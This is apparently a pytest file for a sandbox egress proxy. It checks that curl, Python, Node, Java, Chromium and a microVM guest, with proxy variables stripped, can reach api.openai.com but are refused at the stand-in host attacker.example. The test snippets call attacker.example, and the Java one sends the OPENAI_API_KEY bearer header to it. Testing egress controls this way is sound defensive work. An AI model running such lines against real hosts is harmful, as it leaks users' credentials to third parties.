"""curl, Python, Node and Java without proxy variables: the sandbox's own network leads them to the proxy."""

from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import pytest_asyncio

from coatcheck.client.sandbox import Sandbox
from tests.sandboxes import Place, image_cache, place, sandbox_in
from tests.upstreams import UpstreamTls

pytestmark = [pytest.mark.needs_debian("bwrap", "runc"), pytest.mark.asyncio(loop_scope="module")]

PROXIES = ("http_proxy", "https_proxy", "all_proxy", "ws_proxy", "wss_proxy", "node_use_env_proxy")
WITHOUT = ["env", *(f"-u{name}" for each in PROXIES for name in (each, each.upper()))]
ASK = "https://api.openai.com/v1/models"
ELSEWHERE = "https://attacker.example/"
CURL = f'curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" {ASK}; curl -sS {ELSEWHERE}'
PYTHON = f"""
import os, urllib.error, urllib.request
headers = {{"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}}
print(urllib.request.urlopen(urllib.request.Request("{ASK}", headers=headers)).read().decode())
try:
    urllib.request.urlopen("{ELSEWHERE}")
except urllib.error.HTTPError as refused:
    print(refused.read().decode())
"""
NODE = f"""
const headers = {{ authorization: `Bearer ${{process.env.OPENAI_API_KEY}}` }};
(async () => {{
  console.log(await (await fetch("{ASK}", {{ headers }})).text());
  console.log(await (await fetch("{ELSEWHERE}")).text());
}})();
"""
JAVA = f"""
import java.net.URI;
import java.net.http.*;
public class Ask {{
    public static void main(String[] none) throws Exception {{
        var client = HttpClient.newHttpClient();
        var key = "Bearer " + System.getenv("OPENAI_API_KEY");
        for (var at : new String[] {{"{ASK}", "{ELSEWHERE}"}}) {{
            var asked = HttpRequest.newBuilder(URI.create(at)).header("Authorization", key).build();
            System.out.println(client.send(asked, HttpResponse.BodyHandlers.ofString()).body());
        }}
    }}
}}
"""


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def where(all_output: Path, upstream_tls: UpstreamTls) -> AsyncIterator[Place]:
    async with place(all_output, upstream_tls, cache_dir=image_cache()) as running:
        yield running


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def namespace(where: Place) -> AsyncIterator[Sandbox]:
    """Sees the host's Node and Java."""
    async with sandbox_in(where, memory_mib=1024, processes=512) as made:
        yield made


async def asks(sandbox: Sandbox, *command: str) -> None:
    """The allowed answer is the upstream's, the other a refusal that can be read."""
    done = await sandbox.run([*WITHOUT, *command])
    said = (done.stdout + done.stderr).decode()
    assert "gpt-5" in said, said
    assert "host_not_allowed" in said or "handle_wrong_host" in said, said


async def test_curl(namespace: Sandbox) -> None:
    await asks(namespace, "sh", "-c", CURL)


async def test_pythons_urllib(namespace: Sandbox) -> None:
    await asks(namespace, "python3", "-c", PYTHON)


@pytest.mark.needs_debian("node")
async def test_nodes_fetch(namespace: Sandbox) -> None:
    """Node reads no proxy variables before version 24, and not by itself after it."""
    await asks(namespace, "node", "-e", NODE)


async def test_javas_http_client(namespace: Sandbox) -> None:
    """It reads no proxy variables, but JAVA_TOOL_OPTIONS: only the trust store stays in them here."""
    if (await namespace.run(["sh", "-c", "command -v java"])).exit_code:
        pytest.skip("no JDK here")
    await namespace.write_file("/home/agent/Ask.java", JAVA.encode())
    without = 'JAVA_TOOL_OPTIONS="${JAVA_TOOL_OPTIONS%% -Dhttp.proxy*}" exec java Ask.java'
    await asks(namespace, "sh", "-c", without)


@pytest.mark.needs_debian("chromium-headless-shell", "certutil")
async def test_a_browser(namespace: Sandbox) -> None:
    """Chromium: its own TLS and its own list of roots, which no variable changes. Its own sandbox wants user
    namespaces, which are not to be had in ours."""
    browser = ["chromium-headless-shell", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=20000"]
    for at, said in ((ASK, "handle_missing"), (ELSEWHERE, "host_not_allowed")):
        done = await namespace.run([*WITHOUT, *browser, "--dump-dom", at], timeout=120)
        assert said in done.stdout.decode(), done.stderr.decode()


@pytest.mark.needs_debian("qemu-system-x86_64")
async def test_curl_and_python_in_a_microvm(where: Place) -> None:
    """The same inside a real guest, whose kernel has no other interface than loopback."""
    async with sandbox_in(where, backend="microvm") as guest:
        await asks(guest, "sh", "-c", CURL)
        await asks(guest, "python3", "-c", PYTHON)
        links = (await guest.run(["ls", "/sys/class/net"])).stdout.split()
        assert links == [b"lo"]
